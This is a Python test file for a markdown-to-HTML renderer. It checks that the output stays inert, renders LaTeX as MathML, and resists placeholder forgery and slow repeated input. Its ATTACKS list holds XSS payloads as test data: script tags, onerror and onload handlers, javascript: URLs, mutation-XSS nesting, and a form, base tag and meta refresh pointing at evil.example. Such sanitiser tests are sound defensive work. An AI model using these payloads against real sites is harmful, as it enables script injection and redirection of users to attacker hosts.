from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from olmocr_core.report.markdown import PAGE_CHARS, make_markdown_renderer, to_mathml

RENDER = make_markdown_renderer()
HARMLESS = {"colspan", "rowspan", "scope", "span", "start", "display", "class", "stretchy", "fence", "form", "minsize",
            "maxsize", "mathvariant", "accent", "accentunder", "linethickness", "width", "linebreak", "columnalign",
            "rowspacing", "columnspacing", "columnlines", "rowlines", "notation"}  # fmt: skip
FORBIDDEN = {"script", "style", "img", "svg", "iframe", "object", "embed", "form", "input", "a", "link", "meta", "base",
             "video", "audio", "template", "textarea", "title", "annotation-xml", "semantics"}  # fmt: skip
VOID = {"br", "hr", "col"}


class Tags(HTMLParser):
    """The elements that a browser would create, and whether all are closed inside the fragment."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.open: list[str] = []
        self.escaped = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if self.open and self.open[-1] == tag:
            self.open.pop()
        else:
            self.escaped = True


def assert_inert(html: str) -> None:
    tags = Tags(html)
    assert not tags.names & FORBIDDEN
    assert tags.attributes <= HARMLESS
    assert not tags.open
    assert not tags.escaped, "a fragment must not close what surrounds it"


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[click](javascript:alert(1)) <a href='data:text/html,<script>1</script>'>z</a>",
    "<javascript:alert(1)>",
    "</style><style>*{display:none}</style>",
    "</article></section></main></body></html><h1>gone</h1>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<p style='position:fixed;inset:0' onclick=alert(1) id=documents class='top equation'>x</p>",
    "<table><tr><td background=http://evil.example/x colspan=99999999 onmouseover=alert(1)>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<form action=http://evil.example><input autofocus onfocus=alert(1)></form>",
    "<base href=http://evil.example><meta http-equiv=refresh content='0;url=http://evil.example'><link rel=stylesheet href=x>",
    "$$\\text{<img src=x onerror=alert(1)>}$$ \\(\\text{</math><script>alert(1)</script>}\\)",
    "<span class=\"\\(x\\)\" title='$a$ onload=alert(1)'>y</span> \ue0000\ue001",
    "<b/onclick=alert(1)>x</b> <b\nonclick=alert(1)>y</b>",
    "<!-- --!><script>alert(1)</script> --> <![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><title><template><plaintext>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_shown_as_text_or_dropped(attack):
    for text in (attack, f"| a |\n|---|\n| {attack} |", f"<table><tr><td>{attack}</td></tr></table>", f"- *{attack}*"):
        assert_inert(RENDER(text))


PIECES = st.sampled_from(
    ["<", ">", "</", "/>", "script", "table", "td", "b", "math", "mi", " onerror=", "href='javascript:x'", '"', "'", "`",
     "\n", "\n\n", "|", "---", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\frac", "{", "}", "\\text", "&lt;", "&#60;", "&",
     "![", "](", ")", "[", "]", "<!--", "-->", "#", "*", "\ue000", "\ue001", "0", "x", "\\"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=40).map("".join))
def test_no_mixture_of_markup_escapes_the_sanitiser(text):
    assert_inert(RENDER(text))


LATEX = st.sampled_from(
    [*"\\{}_^&[]x1 ", "\\frac", "\\left", "\\right", "\\sqrt", "\\begin{matrix}", "\\end{matrix}", "\\text", "\\\\",
     "\\limits", "\\color", "\\genfrac", "\\hspace", "\\operatorname", "\\href", "\\overset"]
)  # fmt: skip


@given(st.lists(LATEX, max_size=15).map("".join))
def test_no_latex_ends_in_an_error(latex):
    for block in (True, False):
        mathml = to_mathml(latex, block=block)
        assert mathml is None or mathml.startswith("<math")


def test_what_looks_like_a_tag_but_is_none_stays_readable():
    assert "List&lt;int&gt;" in RENDER("a List<int> of numbers")
    assert "&lt;script&gt;" in RENDER("write <script> here")


def test_tables_of_both_kinds_are_tables():
    for text in ("| a | b |\n|---|---|\n| 1 | 2 |", "<table><tr><th>a</th><td rowspan='2'>1</td></tr></table>"):
        assert "<table>" in RENDER(text)
    assert 'rowspan="2"' in RENDER("<table><tr><td rowspan='2'>1</td></tr></table>")


@pytest.mark.parametrize(
    ("text", "display"),
    [("\\(x^2\\)", "inline"), ("$x^2$", "inline"), ("\\[x^2\\]", "block"), ("$$\nx^2\n= 1\n$$", "block")],
)
def test_equations_become_mathml(text, display):
    assert f'<math display="{display}">' in RENDER(f"Before {text} after")


def test_equations_inside_html_tables_become_mathml():
    assert "<math" in RENDER("<table><tr><td>\\(x_1\\)</td></tr></table>")


def test_prices_are_not_equations():
    for text in ("from $5 to $10", "$5-$10", "US$ 5 and US$ 6", "a \\$5 b $6"):
        assert "<math" not in RENDER(text), text


def test_latex_that_cannot_be_converted_is_shown_as_source():
    assert '<code class="tex">\\(a^b^c\\)</code>' in RENDER("see \\(a^b^c\\)")


def test_figures_are_shown_by_name():
    html = RENDER("![Sales by year](page_186_1092_627_246.png)")
    assert '<span class="figure">Sales by year</span>' in html
    assert "png" not in html


def test_long_pages_are_cut():
    assert len(RENDER("word " * PAGE_CHARS)) < 2 * PAGE_CHARS


@pytest.mark.parametrize("unit", ["[", "![[", "> ", "\\(", "\\[a", "|a", "<b>", "$", "`", "*a ", "<!--", "<div>\n\n"])
def test_hostile_repetition_takes_seconds_at_most(unit):
    started = time.perf_counter()
    assert_inert(RENDER(unit * PAGE_CHARS))
    assert time.perf_counter() - started < 20


def test_a_list_keeps_its_start_number():
    assert '<ol start="155">' in RENDER("155. Specific events and factors")
    assert "start" not in RENDER("<ol start='99999999999999'><li>x</ol>")


FORGED = [
    "&#xe000;{}&#xe001;",
    "&#57344;{}&#57345;",
    "&#xE000{}&#xE001",
    "&amp;#xe000;{}&amp;#xe001;",
    "\ue000{}\ue001",
]


@pytest.mark.parametrize("forged", FORGED)
@pytest.mark.parametrize("number", ["0", "7", "٣", "9" * 5000, "-1", "x0"])
def test_no_text_can_name_the_place_of_an_equation(forged, number):
    html = RENDER(f"Once $a^2$ and {forged.format(number)}")
    assert html.count("<math") == 1


ENTITIES = st.sampled_from(
    [*FORGED, "&#xe000;", "&#xe001;", "$x$", "&", "#", ";", "xe000", "0", "{}", "\n\n", "`", "<td>"]
)


@given(st.lists(ENTITIES | st.text(max_size=5), max_size=20).map("".join))
def test_equations_are_those_of_the_text(text):
    html = RENDER(text)
    assert html.count("<math") <= text.count("$") // 2
    assert RENDER.secret not in html


def test_half_a_surrogate_pair_is_shown_as_unknown():
    assert "a\ufffdb" in RENDER("a\ud800b")
